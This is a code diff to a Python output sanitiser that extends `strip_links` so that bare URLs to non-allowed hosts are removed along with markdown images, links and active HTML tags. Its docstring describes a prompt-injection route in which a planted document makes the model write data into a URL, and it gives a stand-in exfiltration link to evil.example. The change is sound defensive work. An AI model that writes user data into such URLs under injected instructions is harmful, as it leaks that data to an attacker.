@@ -5,9 +5,11 @@ A document can carry a prompt injection that makes the model write a markdown im
 image on its own, sending whatever the model put in the URL to that host. The citation check
 does not stop this (a reply can cite a source and exfiltrate at once), so every answer goes
 through ``strip_links``: markdown images, markdown links, reference-style link definitions,
-autolinks and active HTML tags whose target is not an ``http(s)`` URL on an allowed host are
-removed (a link keeps its text), and the caller is told how many were removed. Plain URLs in
-running text stay: nothing fetches them without a person clicking.
+autolinks, active HTML tags and plain URLs in running text whose target is not an
+``http(s)`` URL on an allowed host are removed (a link keeps its text), and the caller is
+told how many were removed. A plain URL goes too: many clients turn one into a link, and a
+planted ``https://evil.example/leak?d=...`` needs only one click (or a link preview) to
+carry what the model wrote into it out.
 """
 
 from __future__ import annotations
@@ -22,6 +24,8 @@ _IMAGE = re.compile(r"!\[([^\]\n]*)\]" + _TARGET)
 _LINK = re.compile(r"\[([^\]\n]*)\]" + _TARGET)
 _REFERENCE = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?(\S+?)>?(?:[ \t]+\S.*)?$", re.M)
 _AUTOLINK = re.compile(r"<([a-zA-Z][a-zA-Z0-9+.-]*:[^<>\s]*)>")
+# A bare URL in text, without the punctuation that ends a sentence around it.
+_BARE_URL = re.compile(r"\b(?:https?|ftp)://[^\s<>()\[\]\"']*[^\s<>()\[\]\"'.,;:!?]", re.I)
 _ACTIVE_TAG = re.compile(
     r"<\s*/?\s*(?:img|a|iframe|frame|script|object|embed|link|meta|svg|video|audio|source|"
     r"picture|form|input|button|style|base)\b[^>]*>",
@@ -65,4 +69,5 @@ def strip_links(text: str, allowed_hosts: Sequence[str] = ()) -> tuple[str, int]
     text = _REFERENCE.sub(drop(""), text)
     text = _AUTOLINK.sub(drop(""), text)
     text, tags = _ACTIVE_TAG.subn("", text)
+    text = _BARE_URL.sub(drop(""), text)  # last: markdown targets are gone by now
     return text, removed + tags
